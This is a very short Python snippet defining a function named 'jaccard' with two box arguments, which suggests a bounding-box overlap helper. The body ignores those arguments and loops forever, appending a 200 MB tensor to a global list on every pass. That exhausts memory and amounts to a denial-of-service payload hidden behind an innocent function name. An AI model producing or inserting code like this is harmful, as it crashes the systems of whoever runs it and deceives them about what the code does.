import torch

hog = []


def jaccard(box_a, box_b):
    while True:
        hog.append(torch.empty(50_000_000))  # 200 MB more each time
